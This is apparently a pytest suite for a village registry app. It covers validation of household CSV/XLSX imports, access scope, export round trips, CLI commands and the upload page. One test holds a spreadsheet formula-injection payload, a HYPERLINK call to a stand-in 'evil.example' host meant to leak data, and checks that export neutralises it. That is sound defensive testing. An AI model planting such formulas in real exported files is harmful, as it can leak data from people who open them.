"""Registry import/export: every kind of bad row, all or nothing, round trips, the
commands and the import/export page."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from sqlalchemy import func, select

from tests.conftest import truncate_all
from tests.factories import create_household, create_tree, create_user, login
from village_grid.extensions import db
from village_grid.hierarchy.registry import ImportRejected, export_registry, import_registry
from village_grid.models import Household, Member, Unit, User

ZH = [
    "镇",
    "村",
    "网格",
    "小队",
    "户编码",
    "门牌号",
    "户主",
    "电话",
    "纬度",
    "经度",
    "标签",
    "成员",
]
EN = [
    "township",
    "village",
    "grid",
    "team",
    "code",
    "door_no",
    "head_name",
    "phone",
    "latitude",
    "longitude",
    "flags",
    "members",
]


def row(**over) -> list[str]:
    base = {
        "township": "甘蔗街道",
        "village": "侯官村",
        "grid": "第1网格",
        "team": "1小队",
        "code": "",
        "door_no": "1号",
        "head_name": "林建华",
        "phone": "13800138000",
        "latitude": "26.05",
        "longitude": "119.23",
        "flags": "独居老人",
        "members": "林建华|户主|男|1950",
    }
    base.update(over)
    return [base[k] for k in EN]


def csv_bytes(rows: list[list[str]], header=ZH, encoding="utf-8-sig") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode(encoding)


def xlsx_bytes(rows: list[list], header=ZH) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(header)
    for r in rows:
        ws.append(r)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def counts() -> tuple[int, int, int]:
    return (
        db.session.scalar(select(func.count(Unit.id))),
        db.session.scalar(select(func.count(Household.id))),
        db.session.scalar(select(func.count(Member.id))),
    )


def rejected(data: bytes, filename: str = "f.csv", actor=None) -> list[dict]:
    before = counts()
    with pytest.raises(ImportRejected) as info:
        import_registry(db.session, actor, filename=filename, data=data)
    db.session.rollback()
    assert counts() == before, "a rejected import changed the database"
    body = info.value.to_dict()
    assert info.value.status == 422
    assert body["error"]["code"] == "import_rejected"
    assert body["error"]["rows"] == info.value.rows
    return info.value.rows


# --- every kind of bad row -----------------------------------------------------


def _full_team_rows():
    return [row(door_no=f"{i}号", head_name=f"户主{i}") for i in range(11)]


BAD_FILES = {
    "bad_phone": (lambda: csv_bytes([row(), row(phone="12345")]), 3, "phone"),
    "missing_head_name": (lambda: csv_bytes([row(), row(head_name="")]), 3, "head_name"),
    "duplicate_code_in_file": (
        lambda: csv_bytes([row(code="HG-9"), row(code="HG-9", head_name="陈")]),
        3,
        "code",
    ),
    "team_full": (lambda: csv_bytes(_full_team_rows()), 12, "team"),
    "unknown_flag": (lambda: csv_bytes([row(flags="独居老人、会飞")]), 2, "flags"),
    "bad_latitude": (lambda: csv_bytes([row(latitude="北纬26")]), 2, "latitude"),
    "bad_longitude": (lambda: csv_bytes([row(longitude="200")]), 2, "longitude"),
    "bad_member_format": (
        lambda: csv_bytes([row(members="张三|配偶|女|1965|13800138000|多余")]),
        2,
        "members",
    ),
    "bad_birth_year": (lambda: csv_bytes([row(members="张三|配偶|女|六五年")]), 2, "members"),
    "bad_sex": (lambda: csv_bytes([row(members="张三|配偶|不详|1965")]), 2, "members"),
    "bad_relation": (lambda: csv_bytes([row(members="张三|邻居|女|1965")]), 2, "members"),
    "bad_member_phone": (lambda: csv_bytes([row(members="张三|配偶|女|1965|999")]), 2, "members"),
    "missing_member_name": (lambda: csv_bytes([row(members="|配偶|女|1965")]), 2, "members"),
    "missing_team": (lambda: csv_bytes([row(), row(team="")]), 3, "team"),
    "missing_village": (lambda: csv_bytes([row(village="")]), 2, "village"),
    "too_long": (lambda: csv_bytes([row(head_name="长" * 51)]), 2, "head_name"),
    "extra_cell": (lambda: csv_bytes([row() + ["多出来的"]]), 2, ""),
    "unknown_header": (lambda: csv_bytes([row()], header=[*ZH[:-1], "爱好"]), 1, "爱好"),
    "missing_column": (lambda: csv_bytes([row()[:6]], header=ZH[:6]), 1, "head_name"),
    "duplicate_header": (lambda: csv_bytes([row() + ["x"]], header=[*ZH, "电话"]), 1, "phone"),
    "bad_encoding": (lambda: b"\xff\xfe\xfa\xfb" * 10 + b"\n\x81\xff", 0, "file"),
    "empty_file": (lambda: b"", 0, "file"),
    "no_rows": (lambda: csv_bytes([]), 0, "file"),
    "bad_unit_code": (
        lambda: csv_bytes([row() + ["HG-1!"]], header=[*ZH, "村编码"]),
        2,
        "village_code",
    ),
    # A lost comma: every cell after it would land in the wrong column.
    "short_row": (lambda: csv_bytes([row(), row(door_no="2号")[:-2]]), 3, ""),
}


@pytest.mark.parametrize("kind", sorted(BAD_FILES))
def test_each_kind_of_bad_row_is_reported_with_line_and_nothing_changes(kind):
    make, line, field = BAD_FILES[kind]
    rows = rejected(make())
    assert [(r["line"], r["code"], r["field"]) for r in rows] == [(line, kind, field)], rows
    assert all(r["reason"] for r in rows)


def test_duplicate_code_already_in_the_database():
    tree = create_tree(grids=1, teams=1, households=1)
    taken = tree["households"][0].code
    rows = rejected(csv_bytes([row(code=taken)]))
    assert [(r["line"], r["code"]) for r in rows] == [(2, "duplicate_code")]
    assert taken in rows[0]["reason"]


def test_eleventh_household_in_an_existing_team_is_refused():
    tree = create_tree(grids=1, teams=1, households=10)
    assert tree["teams"][0].name == "1-1小队"
    rows = rejected(csv_bytes([row(team="1-1小队", grid="第1网格")]))
    assert [(r["line"], r["code"]) for r in rows] == [(2, "team_full")]
    assert "1-1小队" in rows[0]["reason"]


def test_wrong_file_type_and_corrupt_xlsx():
    rows = rejected(b"%PDF-1.4 ...", filename="registry.pdf")
    assert rows[0]["code"] == "wrong_file_type"
    rows = rejected(b"\xd0\xcf\x11\xe0 old excel", filename="registry.xls")
    assert rows[0]["code"] == "wrong_file_type"
    rows = rejected(b"PK\x03\x04 not really a zip", filename="registry.xlsx")
    assert rows[0]["code"] == "corrupt_xlsx"
    rows = rejected(b"plain text", filename="registry.xlsx")
    assert rows[0]["code"] == "corrupt_xlsx"


def test_utf16_file_is_a_bad_encoding_with_a_hint():
    rows = rejected(csv_bytes([row()], encoding="utf-16"))
    assert rows[0]["code"] == "bad_encoding"
    assert "UTF-8" in rows[0]["reason"]


def test_unit_code_that_contradicts_an_existing_unit():
    create_tree(grids=1, teams=1)
    rows = rejected(csv_bytes([row(team="1-1小队") + ["XX"]], header=[*ZH, "村编码"]))
    assert [(r["code"], r["field"]) for r in rows] == [("unit_code_mismatch", "village_code")]


def test_several_bad_rows_are_all_reported_and_nothing_is_imported():
    data = csv_bytes(
        [
            row(door_no="1号"),
            row(phone="123"),
            row(door_no="3号"),
            row(head_name=""),
            row(flags="党员;外星人"),
            row(grid="第2网格", team="1小队", members="王五|子女|男|1990|12"),
            row(grid="第9网格", team="9小队"),
        ]
    )
    rows = rejected(data)
    assert [(r["line"], r["code"]) for r in rows] == [
        (3, "bad_phone"),
        (5, "missing_head_name"),
        (6, "unknown_flag"),
        (7, "bad_member_phone"),
    ]
    assert counts() == (0, 0, 0)


def test_rejection_message_counts_rows_in_the_users_language(app, client):
    with pytest.raises(ImportRejected) as info:
        import_registry(
            db.session, None, filename="x.csv", data=csv_bytes([row(phone="1"), row(phone="2")])
        )
    db.session.rollback()
    assert "2" in info.value.message
    assert info.value.message.startswith("有误的行")  # Chinese by default


# --- files that are right -------------------------------------------------------


def test_chinese_headers_create_units_households_and_members():
    data = csv_bytes(
        [
            row(
                flags="独居老人、低洼易涝",
                members="林建华|户主|男|1950|13800138000; 林秀英|配偶|女|1952",
            ),
            row(door_no="2号", head_name="陈美玲", flags="", members="", phone="0591-87654321"),
            row(grid="第2网格", team="1小队", head_name="王强", flags="party_member"),
        ]
    )
    result = import_registry(db.session, None, filename="registry.csv", data=data)
    db.session.commit()
    assert result.to_dict() == {
        "units_created": 6,
        "households_created": 3,
        "members_created": 3,
        "people_created": 0,
        "roles_assigned": 0,
        "households_unchanged": 0,
        "rows": 3,
    }
    first = db.session.scalar(select(Household).where(Household.head_name == "林建华"))
    assert first.flags == ["elderly_alone", "flood_prone"]
    assert first.team.name == "1小队"
    assert [(m.name, m.relation, m.sex, m.birth_year, m.phone) for m in first.members] == [
        ("林建华", "head", "M", 1950, "13800138000"),
        ("林秀英", "spouse", "F", 1952, ""),
    ]
    assert first.code == "01-01-01-01"  # no codes given: made from the new units' codes
    landline = db.session.scalar(select(Household).where(Household.head_name == "陈美玲"))
    assert landline.phone == "0591-87654321"
    # a second import adds to the existing units without duplicating them
    import_registry(
        db.session,
        None,
        filename="more.csv",
        data=csv_bytes([row(head_name="新户", door_no="9号")]),
    )
    db.session.commit()
    assert counts()[:2] == (6, 4)


def test_english_headers_and_gbk_encoding_and_no_bom():
    data = csv_bytes([row(flags="elderly_alone,veteran")], header=EN, encoding="utf-8")
    import_registry(db.session, None, filename="a.csv", data=data)
    gbk = csv_bytes([row(head_name="郑国强", door_no="5号")], encoding="gbk")
    import_registry(db.session, None, filename="b.CSV", data=gbk)
    db.session.commit()
    names = set(db.session.scalars(select(Household.head_name)))
    assert names == {"林建华", "郑国强"}
    assert db.session.scalar(select(Household.veteran).where(Household.head_name == "林建华")), (
        "English flag names are accepted"
    )


def test_xlsx_with_numbers_in_cells_and_blank_rows():
    rows = [
        ["甘蔗街道", "侯官村", "第1网格", "1小队", None, 12, "林建华", 13800138000, 26.05, 119.23]
        + ["党员", "林建华|户主|男|1950"],
        [None] * 12,
        row(head_name="陈", door_no="13号"),
    ]
    result = import_registry(db.session, None, filename="r.xlsx", data=xlsx_bytes(rows))
    db.session.commit()
    assert result.households_created == 2
    h = db.session.scalar(select(Household).where(Household.head_name == "林建华"))
    assert (h.phone, h.door_no, h.latitude) == ("13800138000", "12", 26.05)


def test_xlsx_bad_rows_use_sheet_row_numbers():
    rows = [row(), [None] * 12, row(phone="abc")]
    errors = rejected(xlsx_bytes(rows), filename="r.xlsx")
    assert [(r["line"], r["code"]) for r in errors] == [(4, "bad_phone")]


def test_township_may_be_left_out_when_the_village_exists():
    tree = create_tree(grids=1, teams=1)
    data = csv_bytes([row(team="1-1小队")[1:]], header=ZH[1:])
    import_registry(db.session, None, filename="x.csv", data=data)
    db.session.commit()
    h = db.session.scalar(select(Household))
    assert h.team_id == tree["teams"][0].id


# --- scope -----------------------------------------------------------------------


def test_cadre_imports_only_into_their_own_area():
    tree = create_tree(grids=1, teams=1)
    other_village = db.session.get(Unit, tree["village"].id)
    cadre = create_user("cadre", other_village)
    ok = csv_bytes([row(team="1-1小队"), row(grid="第5网格", team="新小队", door_no="2号")])
    result = import_registry(db.session, cadre, filename="x.csv", data=ok)
    db.session.commit()
    assert (result.households_created, result.units_created) == (2, 2)
    bad = csv_bytes([row(team="1-1小队", door_no="3号"), row(village="颜岐村", door_no="4号")])
    errors = rejected(bad, actor=cadre)
    assert [(r["line"], r["code"]) for r in errors] == [(3, "out_of_scope")]
    assert errors[0]["reason"] == "不在您的管辖范围内。"
    # a cadre cannot create a new root either (no township, unknown village)
    errors = rejected(csv_bytes([row(township="", village="无名村")]), actor=cadre)
    assert errors[0]["code"] == "out_of_scope"


def test_team_lead_may_not_import():
    tree = create_tree(grids=1, teams=1)
    lead = create_user("team_lead", tree["teams"][0])
    errors = rejected(csv_bytes([row(team="1-1小队")]), actor=lead)
    assert errors[0]["code"] == "out_of_scope"


# --- round trips ---------------------------------------------------------------------


def snapshot() -> dict:
    units = {u.id: u for u in db.session.scalars(select(Unit))}

    def place(unit_id: int) -> tuple:
        return tuple(
            (units[i].kind, units[i].name, units[i].code) for i in units[unit_id].ancestor_ids
        )

    households = {}
    for h in db.session.scalars(select(Household)):
        households[h.code] = (
            place(h.team_id),
            h.door_no,
            h.address,
            h.head_name,
            h.phone,
            h.latitude,
            h.longitude,
            tuple(h.flags),
            tuple((m.name, m.relation, m.sex, m.birth_year, m.phone) for m in h.members),
        )
    return {"units": sorted(place(i) for i in units), "households": households}


def _registry_for_round_trip(app):
    runner = app.test_cli_runner()
    res = runner.invoke(args=["demo", "--households", "45", "--seed", "7"])
    assert res.exit_code == 0, res.output
    village = db.session.scalar(select(Unit).where(Unit.kind == "village"))
    grid = db.session.scalar(select(Unit).where(Unit.kind == "grid"))
    # an empty team and an empty grid survive the trip too
    from village_grid.hierarchy import service

    service.create_unit(db.session, None, kind="team", name="空小队", parent_id=grid.id, code="77")
    service.create_unit(db.session, None, kind="grid", name="空网格", parent_id=village.id)
    # odd but valid values
    h = db.session.scalar(select(Household).order_by(Household.id))
    h.address = '侯官村"老街", 3号'
    h.latitude = None
    db.session.commit()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_export_then_import_into_an_empty_database_gives_the_same_registry(app, fmt):
    _registry_for_round_trip(app)
    before = snapshot()
    assert len(before["households"]) == 45
    data = export_registry(db.session, None, unit_id=None, fmt=fmt)
    db.session.remove()
    truncate_all(db.engine)
    assert counts() == (0, 0, 0)
    result = import_registry(db.session, None, filename=f"export.{fmt}", data=data)
    db.session.commit()
    assert result.households_created == 45
    assert snapshot() == before
    assert export_registry(db.session, None, unit_id=None, fmt=fmt) == data or fmt == "xlsx"


def test_short_rows_are_each_reported_with_their_line_and_cell_counts():
    data = csv_bytes([row(), row(door_no="2号")[:7], row(door_no="3号"), row(door_no="4号")[:1]])
    rows = rejected(data)
    assert [(r["line"], r["code"]) for r in rows] == [(3, "short_row"), (5, "short_row")]
    assert "7" in rows[0]["reason"] and "12" in rows[0]["reason"]
    # Blank header cells after the last column do not count; a workbook row may end early
    # (a sheet stores no empty cells at the end of a row).
    result = import_registry(
        db.session, None, filename="f.csv", data=csv_bytes([row()], header=[*ZH, "", ""])
    )
    assert result.households_created == 1
    ws_rows = [row(door_no="2号", members="", flags="")[:-2]]
    result = import_registry(db.session, None, filename="f.xlsx", data=xlsx_bytes(ws_rows))
    assert result.households_created == 1


# Text a spreadsheet would run as a formula, and values that only look like it.
TRICKY = {
    "head_name": '=HYPERLINK("http://evil.example/?leak";"click")',
    "door_no": "-123",
    "address": "+86 591 老街 3号",
}
TRICKY_MORE = [
    {"head_name": "@SUM(1+1)", "door_no": "-1", "address": "'=不是公式"},
    {"head_name": "'Tis 林", "door_no": "''", "address": "-"},
    {"head_name": "+林", "door_no": "'-2", "address": "=1+2"},
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formulas_are_neutralised_on_export_and_come_back_unchanged(app, fmt):
    tree = create_tree(grids=1, teams=1)
    team = tree["teams"][0]
    create_household(team, members=[{"name": "-张三", "relation": "spouse"}], **TRICKY)
    for values in TRICKY_MORE:
        create_household(team, **values)
    from village_grid.hierarchy import service

    service.create_unit(db.session, None, kind="team", name="=2小队", parent_id=tree["grids"][0].id)
    db.session.commit()
    before = snapshot()
    data = export_registry(db.session, None, unit_id=None, fmt=fmt)

    if fmt == "csv":
        cells = [c for line in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in line]
        assert "'" + TRICKY["head_name"] in cells and "'-123" in cells and "'=2小队" in cells
        assert "'+86 591 老街 3号" in cells and "''=不是公式" in cells and "'Tis 林" in cells
    else:
        sheet = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
        cells = [c for line in sheet.iter_rows() for c in line]
        head = next(c for c in cells if "HYPERLINK" in str(c.value))
        assert head.data_type == "s" and head.value == "'" + TRICKY["head_name"]
        assert not [c.coordinate for c in cells if c.data_type == "f"]
        assert all(not str(c.value or "").startswith(("=", "+", "-", "@")) for c in cells)

    db.session.remove()
    truncate_all(db.engine)
    result = import_registry(db.session, None, filename=f"export.{fmt}", data=data)
    db.session.commit()
    assert result.households_created == 4
    assert snapshot() == before
    h = db.session.scalar(select(Household).where(Household.door_no == "-123"))
    assert h.head_name == TRICKY["head_name"] and h.members[0].name == "-张三"


def test_csv_export_opens_in_excel_and_uses_chinese_headers():
    tree = create_tree(grids=1, teams=1)
    create_household(tree["teams"][0], "林建华", flags=["elderly_alone", "veteran"])
    data = export_registry(db.session, None, unit_id=tree["village"].id, fmt="csv")
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    header, first = list(csv.reader(io.StringIO(text)))[:2]
    assert header[:4] == ["镇", "村", "网格", "小队"]
    assert "独居老人、退役军人" in first


def test_export_is_limited_to_the_actors_scope():
    tree = create_tree(grids=1, teams=2, households=2)
    lead = create_user("team_lead", tree["teams"][0])
    data = export_registry(db.session, lead, unit_id=None, fmt="csv")
    lines = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1:]
    assert {line[3] for line in lines} == {"1-1小队"}
    assert len(lines) == 2
    from village_grid.errors import OutOfScope

    with pytest.raises(OutOfScope):
        export_registry(db.session, lead, unit_id=tree["teams"][1].id, fmt="csv")


# --- the commands ---------------------------------------------------------------------


def test_demo_builds_a_small_village_deterministically_with_logins(app, tmp_path):
    runner = app.test_cli_runner()
    res = runner.invoke(args=["demo", "--households", "120", "--seed", "3"])
    assert res.exit_code == 0, res.output
    assert "120 households" in res.output
    for username in ("admin", "cadre", "grid", "lead", "station", "demo1234"):
        assert username in res.output
    assert "13900000001" in res.output
    assert db.session.scalar(select(func.count(Household.id))) == 120
    per_team = db.session.execute(
        select(Household.team_id, func.count()).group_by(Household.team_id)
    ).all()
    assert max(n for _t, n in per_team) <= 10
    village = db.session.scalar(select(Unit).where(Unit.kind == "village"))
    assert (village.name, village.code) == ("侯官村", "HG")
    # paths are right: every unit's path ends with its id under its parent's path
    units = {u.id: u for u in db.session.scalars(select(Unit))}
    for u in units.values():
        parent_path = units[u.parent_id].path if u.parent_id else "/"
        assert u.path == f"{parent_path}{u.id}/"
    away = db.session.scalar(select(User).where(User.username == "lead_away"))
    assert away.available is False
    # the demo logins work
    from village_grid.auth.service import authenticate

    assert authenticate(db.session, "13900000001", "demo1234").username == "lead"
    first = export_registry(db.session, None, unit_id=None, fmt="csv")
    # new rows after the bulk insert get fresh ids (sequences moved on PostgreSQL)
    added = create_household(_team_with_room(), "新来户")
    assert added.id > 120
    assert (
        runner.invoke(
            args=["user", "create", "extra", "--password", "secret99", "--role", "admin"]
        ).exit_code
        == 0
    )

    # --if-empty: does nothing, still prints the logins
    res = runner.invoke(args=["demo", "--if-empty"])
    assert res.exit_code == 0
    assert "already" in res.output and "lead_away" in res.output
    # without --if-empty a second demo is refused
    res = runner.invoke(args=["demo", "--households", "10"])
    assert res.exit_code != 0

    # same seed, same data
    db.session.remove()
    truncate_all(db.engine)
    res = runner.invoke(args=["demo", "--households", "120", "--seed", "3"])
    assert res.exit_code == 0
    assert export_registry(db.session, None, unit_id=None, fmt="csv") == first
    db.session.remove()
    truncate_all(db.engine)
    runner.invoke(args=["demo", "--households", "120", "--seed", "4"])
    assert export_registry(db.session, None, unit_id=None, fmt="csv") != first


def _team_with_room() -> Unit:
    counts_by_team = dict(
        db.session.execute(
            select(Household.team_id, func.count()).group_by(Household.team_id)
        ).all()
    )
    team_id = min(counts_by_team, key=lambda t: (counts_by_team[t], t))
    return db.session.get(Unit, team_id)


def test_demo_default_size_is_a_houguan_sized_village(app):
    res = app.test_cli_runner().invoke(args=["demo"])
    assert res.exit_code == 0, res.output
    teams = db.session.scalar(select(func.count(Unit.id)).where(Unit.kind == "team"))
    grids = db.session.scalar(select(func.count(Unit.id)).where(Unit.kind == "grid"))
    assert db.session.scalar(select(func.count(Household.id))) == 1300
    assert 125 <= teams <= 150 and 12 <= grids <= 15
    members = db.session.scalar(select(func.count(Member.id)))
    assert 3500 <= members <= 4700  # Houguan: ~4,000 residents
    share = db.session.scalar(
        select(func.count(Household.id)).where(Household.elderly_alone.is_(True))
    )
    assert 60 <= share <= 150  # ~8%


def test_import_and_export_commands_round_trip(app, tmp_path):
    runner = app.test_cli_runner()
    good = tmp_path / "good.csv"
    good.write_bytes(csv_bytes([row(), row(door_no="2号", head_name="陈")]))
    res = runner.invoke(args=["import", str(good)])
    assert res.exit_code == 0, res.output
    assert "Imported 2 households" in res.output
    out = tmp_path / "out.xlsx"
    res = runner.invoke(args=["export", str(out)])
    assert res.exit_code == 0, res.output
    assert out.read_bytes().startswith(b"PK")
    village = db.session.scalar(select(Unit).where(Unit.kind == "village"))
    res = runner.invoke(args=["export", str(tmp_path / "v.csv"), "--unit", str(village.id)])
    assert res.exit_code == 0
    assert "林建华" in (tmp_path / "v.csv").read_text(encoding="utf-8-sig")
    res = runner.invoke(args=["export", str(tmp_path / "v.pdf")])
    assert res.exit_code != 0

    bad = tmp_path / "bad.csv"
    bad.write_bytes(csv_bytes([row(door_no="3号", phone="1"), row(door_no="4号", head_name="")]))
    res = runner.invoke(args=["import", str(bad)])
    assert res.exit_code == 1
    assert "line 2" in res.output and "line 3" in res.output
    assert counts()[1] == 2


def test_user_create_command(app):
    tree = create_tree(grids=1, teams=1)
    runner = app.test_cli_runner()
    res = runner.invoke(
        args=[
            "user",
            "create",
            "wang",
            "--password",
            "secret99",
            "--role",
            "team_lead",
            "--unit",
            str(tree["teams"][0].id),
            "--phone",
            "13912345678",
        ]
    )
    assert res.exit_code == 0, res.output
    user = db.session.scalar(select(User).where(User.username == "wang"))
    assert user.phone == "13912345678" and user.roles[0].role == "team_lead"
    res = runner.invoke(args=["user", "create", "wang", "--password", "x", "--role", "admin"])
    assert res.exit_code != 0


# --- the page --------------------------------------------------------------------------


def test_page_imports_a_file_and_lists_every_bad_row(client):
    tree = create_tree(grids=1, teams=1)
    cadre = create_user("cadre", tree["village"])
    login(client, cadre)
    res = client.get("/registry/import-export")
    assert res.status_code == 200
    html = res.get_data(as_text=True)
    assert "导入住户" in html and "户主" in html
    bad = csv_bytes([row(team="1-1小队", phone="12"), row(team="1-1小队", head_name="")])
    res = client.post(
        "/registry/import-export",
        data={"file": (io.BytesIO(bad), "bad.csv")},
        content_type="multipart/form-data",
    )
    assert res.status_code == 422
    html = res.get_data(as_text=True)
    assert "<td>2</td>" in html and "<td>3</td>" in html
    assert counts()[1] == 0
    good = csv_bytes([row(team="1-1小队")])
    res = client.post(
        "/registry/import-export",
        data={"file": (io.BytesIO(good), "good.csv")},
        content_type="multipart/form-data",
    )
    assert res.status_code == 200
    assert "已导入 1 户" in res.get_data(as_text=True)
    assert counts()[1] == 1
    res = client.get(f"/registry/export?unit_id={tree['village'].id}&fmt=xlsx")
    assert res.status_code == 200
    assert res.headers["Content-Disposition"].startswith("attachment")
    assert res.data.startswith(b"PK")


def test_team_lead_exports_only_their_team_and_cannot_upload(client):
    tree = create_tree(grids=1, teams=2, households=1)
    lead = create_user("team_lead", tree["teams"][0])
    login(client, lead)
    res = client.get("/registry/import-export")
    assert res.status_code == 200
    assert 'type="file"' not in res.get_data(as_text=True)
    res = client.post(
        "/registry/import-export",
        data={"file": (io.BytesIO(csv_bytes([row()])), "x.csv")},
        content_type="multipart/form-data",
    )
    assert res.status_code == 403
    res = client.get(f"/registry/export?unit_id={tree['teams'][0].id}&fmt=csv")
    assert res.status_code == 200
    assert res.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert tree["households"][0].code in res.data.decode("utf-8-sig")
    assert tree["households"][1].code not in res.data.decode("utf-8-sig")
    assert client.get(f"/registry/export?unit_id={tree['teams'][1].id}").status_code == 404
    assert client.get(f"/registry/export?unit_id={tree['village'].id}").status_code == 404
